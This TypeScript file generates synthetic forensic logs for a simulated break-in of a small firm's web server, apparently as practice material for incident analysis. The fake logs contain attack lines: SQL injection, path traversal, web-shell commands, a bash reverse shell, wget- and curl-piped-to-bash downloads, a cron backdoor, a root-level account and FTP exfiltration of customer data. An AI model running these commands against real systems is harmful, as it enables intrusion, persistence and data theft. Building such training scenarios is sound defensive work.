import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { apacheStamp, createLines, ctime, scatter, syslogStamp, utc } from "./lines.ts";

const web = "203.0.113.20";
const attacker = "45.155.204.77";
const dropServer = "193.42.33.14";
const visitors = ["78.46.10.21", "81.2.69.142", "84.160.20.9", "91.64.3.88", "37.120.1.44", "62.96.41.7"];
const crawlers = ["66.249.66.1", "157.55.39.12"];
const pages = [
  "/",
  "/termine",
  "/kontakt",
  "/css/site.css",
  "/js/app.js",
  "/img/logo.png",
  "/wp-login.php",
  "/news/2024-05",
];
const chrome =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36";
const from = utc("2024-05-13 00:00:00");
const to = utc("2024-05-14 18:00:00");

/** A small firm's web server: scanned, broken into through a plug-in's upload, shell, cron, data out. UTC. */
export function webServerIncident(): ExampleFile[] {
  const random = createRandom(514);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "alert.yml", content: alert },
    { path: "evidence/web01/apache2/access.log", content: access(random) },
    { path: "evidence/web01/auth.log", content: auth(random) },
    { path: "evidence/web01/audit/audit.log", content: audit(random) },
    { path: "evidence/web01/ufw.log", content: firewall(random) },
    { path: "evidence/web01/vsftpd.log", content: ftp(random) },
    { path: "evidence/db01/auth.log", content: databaseAuth() },
  ];
}

/** A request as Apache's combined log writes it. */
type Visit = (ms: number, ip: string, request: string, status: number, size: number, agent?: string) => void;

function access(random: Random): string {
  const log = createLines();
  const add: Visit = (ms, ip, request, status, size, agent = chrome) =>
    log.add(ms, `${ip} - - [${apacheStamp(ms)}] "${request}" ${status} ${size} "-" "${agent}"`);
  ordinaryVisits(random, add);
  attackersVisits(random, add);
  return log.text();
}

function ordinaryVisits(random: Random, add: Visit): void {
  scatter(random, 3200, from, to, (ms) =>
    add(
      ms,
      random.pick(visitors),
      `GET ${random.pick(pages)} HTTP/1.1`,
      random.next() < 0.97 ? 200 : 404,
      random.between(300, 40_000),
    ),
  );
  scatter(random, 400, from, to, (ms) =>
    add(
      ms,
      random.pick(crawlers),
      `GET /news/${random.between(1, 900)} HTTP/1.1`,
      random.next() < 0.8 ? 200 : 404,
      random.between(300, 9000),
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ),
  );
  // The uptime monitor: every five minutes.
  for (let ms = from; ms < to; ms += 300_000)
    add(ms, "198.51.100.90", "GET /health HTTP/1.1", 200, 12, "UptimeMonitor/2.1");
  // Internet noise that gets nothing.
  scatter(random, 60, from, to, (ms) =>
    add(
      ms,
      `185.220.101.${random.between(1, 40)}`,
      `GET ${random.pick(["/.env", "/phpmyadmin/", "/.git/config", "/boaform/admin"])} HTTP/1.1`,
      404,
      196,
      "curl/7.68.0",
    ),
  );
}

function attackersVisits(random: Random, add: Visit): void {
  const scan = utc("2024-05-14 09:12:00");
  for (let i = 0; i < 420; i++)
    add(
      scan + i * 450,
      attacker,
      `GET /${random.pick(["admin", "backup", "old", "test", "api", "wp-content/plugins"])}/${random.between(1, 9999)}${random.pick([".php", ".zip", ".bak", "/"])} HTTP/1.1`,
      404,
      196,
      "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    );
  const exploit = utc("2024-05-14 09:21:14");
  add(
    exploit,
    attacker,
    "GET /termine?id=1%27%20UNION%20SELECT%201,user_login,user_pass%20FROM%20wp_users--%20- HTTP/1.1",
    200,
    8120,
    "python-requests/2.31.0",
  );
  add(
    exploit + 44_000,
    attacker,
    "GET /download.php?file=../../../../etc/passwd HTTP/1.1",
    200,
    1874,
    "python-requests/2.31.0",
  );
  add(
    exploit + 95_000,
    attacker,
    "POST /wp-content/plugins/file-manager/lib/php/connector.minimal.php HTTP/1.1",
    200,
    512,
    "python-requests/2.31.0",
  );
  for (const [i, command] of [
    "id",
    "uname%20-a",
    "cat%20/etc/passwd",
    "ls%20-la%20/var/www",
    "bash%20-c%20%27bash%20-i%20%3E%26%20/dev/tcp/45.155.204.77/4444%200%3E%261%27",
  ].entries())
    add(
      exploit + 120_000 + i * 21_000,
      attacker,
      `GET /wp-content/uploads/2024/05/cache.php?cmd=${command} HTTP/1.1`,
      200,
      60 + i * 220,
      "python-requests/2.31.0",
    );
}

function auth(random: Random): string {
  const log = createLines();
  const add = (ms: number, text: string) => log.add(ms, `${syslogStamp(ms)} web01 ${text}`);
  for (let ms = from; ms < to; ms += 3_600_000) {
    add(ms + 17_000, "CRON[2211]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
    add(ms + 17_500, "CRON[2211]: pam_unix(cron:session): session closed for user root");
  }
  // The background noise of the internet, spread thin.
  scatter(random, 500, from, to, (ms) => {
    const user = random.pick(["root", "admin", "oracle", "ubuntu", "test"]);
    add(
      ms,
      `sshd[${random.between(2000, 30000)}]: Failed password for ${user === "root" ? "" : "invalid user "}${user} from 218.92.0.${random.between(2, 90)} port ${random.between(30000, 60000)} ssh2`,
    );
  });
  for (const clock of ["2024-05-13 08:02:10", "2024-05-13 16:40:02", "2024-05-14 07:58:31"]) {
    add(
      utc(clock),
      "sshd[4120]: Accepted publickey for kmeyer from 10.20.0.11 port 51210 ssh2: ED25519 SHA256:4T0wq1",
    );
    add(
      utc(clock) + 4000,
      "sudo:   kmeyer : TTY=pts/0 ; PWD=/home/kmeyer ; USER=root ; COMMAND=/usr/bin/apt update",
    );
  }
  const own = utc("2024-05-14 09:41:20");
  add(
    own,
    "useradd[9921]: new user: name=sysupd, UID=0, GID=0, home=/var/tmp/.s, shell=/bin/bash, from=none",
  );
  add(own + 60_000, "sshd[9950]: Accepted password for sysupd from 45.155.204.77 port 40122 ssh2");
  return log.text();
}

/** A program that ran, as auditd writes it. */
type Exec = (ms: number, exe: string, args: string[], uid: number, auid: number) => void;

function audit(random: Random): string {
  const log = createLines();
  let serial = 4000;
  const exec: Exec = (ms, exe, args, uid, auid) => {
    const pid = random.between(2000, 30000);
    const id = `audit(${(ms / 1000).toFixed(3)}:${++serial})`;
    const argv = args
      .map(
        (arg, i) =>
          `a${i}=${/[\s"]/.test(arg) ? Buffer.from(arg).toString("hex").toUpperCase() : `"${arg}"`}`,
      )
      .join(" ");
    log.add(
      ms,
      `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=1201 pid=${pid} auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4 comm="${exe.split("/").at(-1)}" exe="${exe}" key="exec"`,
    );
    log.add(ms, `type=EXECVE msg=${id}: argc=${args.length} ${argv}`);
  };
  ordinaryPrograms(random, exec);
  attackersPrograms(exec);
  return log.text();
}

function ordinaryPrograms(random: Random, exec: Exec): void {
  scatter(random, 700, from, to, (ms) =>
    random.pick([
      () =>
        exec(
          ms,
          "/usr/bin/dash",
          ["/bin/sh", "-c", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"],
          0,
          4294967295,
        ),
      () => exec(ms, "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], 0, 4294967295),
      () =>
        exec(
          ms,
          "/usr/bin/find",
          ["find", "/var/lib/php/sessions", "-mmin", "+24", "-delete"],
          0,
          4294967295,
        ),
      () => exec(ms, "/usr/bin/curl", ["curl", "-fsS", "https://hc.monitoring.example/ping"], 0, 4294967295),
    ])(),
  );
  // The nightly backup looks like staging.
  for (const clock of ["2024-05-13 02:00:03", "2024-05-14 02:00:03"]) {
    exec(
      utc(clock),
      "/usr/bin/mysqldump",
      ["mysqldump", "--all-databases", "--result-file=/var/backups/db.sql"],
      0,
      4294967295,
    );
    exec(
      utc(clock) + 60_000,
      "/usr/bin/tar",
      ["tar", "czf", "/var/backups/www.tar.gz", "/var/www"],
      0,
      4294967295,
    );
  }
}

function attackersPrograms(exec: Exec): void {
  const shell = utc("2024-05-14 09:24:40");
  const www = (offsetS: number, exe: string, args: string[]) =>
    exec(shell + offsetS * 1000, exe, args, 33, 4294967295);
  www(0, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/45.155.204.77/4444 0>&1"]);
  www(31, "/usr/bin/whoami", ["whoami"]);
  www(40, "/usr/bin/wget", ["wget", "http://45.155.204.77:8000/lp.sh", "-O", "/tmp/lp.sh"]);
  www(55, "/usr/bin/bash", ["bash", "/tmp/lp.sh"]);
  exec(
    shell + 600_000,
    "/usr/bin/bash",
    ["bash", "-c", "(crontab -l; echo '*/10 * * * * curl -s http://193.42.33.14/u.sh | bash') | crontab -"],
    0,
    33,
  );
  exec(shell + 601_000, "/usr/bin/crontab", ["crontab", "-"], 0, 33);
  exec(
    shell + 1_000_000,
    "/usr/sbin/useradd",
    ["useradd", "-o", "-u", "0", "-g", "0", "-d", "/var/tmp/.s", "sysupd"],
    0,
    33,
  );
  exec(
    shell + 2_400_000,
    "/usr/bin/mysqldump",
    ["mysqldump", "-u", "wp", "customers", "--result-file=/var/tmp/.s/c.sql"],
    0,
    33,
  );
  exec(
    shell + 2_460_000,
    "/usr/bin/tar",
    ["tar", "czf", "/var/tmp/.s/c.tgz", "/var/tmp/.s/c.sql", "/srv/ftp/customers"],
    0,
    33,
  );
  exec(
    shell + 2_520_000,
    "/usr/bin/curl",
    ["curl", "-T", "/var/tmp/.s/c.tgz", "ftp://193.42.33.14/in/", "--user", "up:up"],
    0,
    33,
  );
}

function firewall(random: Random): string {
  const log = createLines();
  const add = (ms: number, verb: string, out: string, src: string, dst: string, spt: number, dpt: number) =>
    log.add(
      ms,
      `${syslogStamp(ms)} web01 kernel: [${(ms % 1e7) / 1000}] [UFW ${verb}] ${out} SRC=${src} DST=${dst} LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=${random.between(1, 65000)} DF PROTO=TCP SPT=${spt} DPT=${dpt} WINDOW=64240 RES=0x00 SYN URGP=0`,
    );
  scatter(random, 900, from, to, (ms) =>
    add(
      ms,
      "BLOCK",
      "IN=eth0 OUT= MAC=52:54:00:aa:01:02:52:54:00:ff:00:01:08:00",
      `${random.pick(["89.248.165", "79.124.62", "162.142.125"])}.${random.between(2, 250)}`,
      web,
      random.between(30000, 65000),
      random.pick([23, 445, 3389, 8080, 5555, 6379]),
    ),
  );
  scatter(random, 200, from, to, (ms) =>
    add(
      ms,
      "AUDIT",
      "IN= OUT=eth0",
      web,
      random.pick(["151.101.2.132", "185.125.190.36"]),
      random.between(32768, 60000),
      443,
    ),
  );
  add(utc("2024-05-14 09:24:41"), "AUDIT", "IN= OUT=eth0", web, attacker, 41_122, 4444);
  add(utc("2024-05-14 10:06:41"), "AUDIT", "IN= OUT=eth0", web, dropServer, 42_610, 21);
  for (let i = 0; i < 20; i++)
    add(utc("2024-05-14 09:40:00") + i * 600_000, "AUDIT", "IN= OUT=eth0", web, dropServer, 43_000 + i, 80);
  return log.text();
}

function ftp(random: Random): string {
  const log = createLines();
  const add = (ms: number, text: string) => log.add(ms, `${ctime(ms)} [pid ${random.between(3, 9)}] ${text}`);
  scatter(random, 120, from, to, (ms) => {
    const partner = random.pick(["194.25.10.4", "194.25.10.5"]);
    add(ms, `CONNECT: Client "${partner}"`);
    add(ms + 400, `[partner1] OK LOGIN: Client "${partner}"`);
    add(
      ms + 4000,
      `[partner1] OK UPLOAD: Client "${partner}", "/in/order-${random.between(1000, 9999)}.xml", ${random.between(900, 9000)} bytes, 120.10Kbyte/sec`,
    );
  });
  const pull = utc("2024-05-14 10:20:00");
  add(pull, `CONNECT: Client "${attacker}"`);
  add(pull + 900, `[sysupd] OK LOGIN: Client "${attacker}"`);
  for (let i = 0; i < 48; i++)
    add(
      pull + 3000 + i * 2500,
      `[sysupd] OK DOWNLOAD: Client "${attacker}", "/srv/ftp/customers/batch-${i}.csv", ${random.between(900_000, 4_000_000)} bytes, 5120.10Kbyte/sec`,
    );
  return log.text();
}

function databaseAuth(): string {
  const log = createLines();
  const add = (ms: number, text: string) => log.add(ms, `${syslogStamp(ms)} db01 ${text}`);
  for (let ms = from; ms < to; ms += 3_600_000)
    add(ms + 17_000, "CRON[881]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
  for (const clock of ["2024-05-13 08:10:00", "2024-05-14 08:12:00"])
    add(
      utc(clock),
      "sshd[711]: Accepted publickey for kmeyer from 10.20.0.11 port 50111 ssh2: ED25519 SHA256:4T0wq1",
    );
  // The second host: from the web server, with a password, in the incident's time.
  for (let i = 0; i < 4; i++)
    add(
      utc("2024-05-14 09:52:00") + i * 3000,
      "sshd[790]: Failed password for kmeyer from 10.20.0.20 port 58810 ssh2",
    );
  add(utc("2024-05-14 09:52:40"), "sshd[791]: Accepted password for kmeyer from 10.20.0.20 port 58822 ssh2");
  add(
    utc("2024-05-14 09:53:05"),
    "sudo:   kmeyer : TTY=pts/1 ; PWD=/home/kmeyer ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
  );
  return log.text();
}

const organisation = `name: Small trading firm
timeZone: UTC
operatingCountries: [DE, AT]
internalNetworks: [10.20.0.0/24, 203.0.113.16/29]
gateways: [10.20.0.1]
domains: [handel.example]
assets:
  - { name: web01, addresses: [203.0.113.20, 10.20.0.20], role: web server, critical: true }
  - { name: db01, addresses: [10.20.0.30], role: database server, critical: true }
  - { name: admin-pc, addresses: [10.20.0.11], role: administrator's workstation }
`;

const alert = `title: Outbound connection to a listed address
severity: medium
time: 2024-05-14T09:24:41Z
src_ip: 203.0.113.20
dst_ip: 45.155.204.77
dst_port: 4444
action: allowed
`;
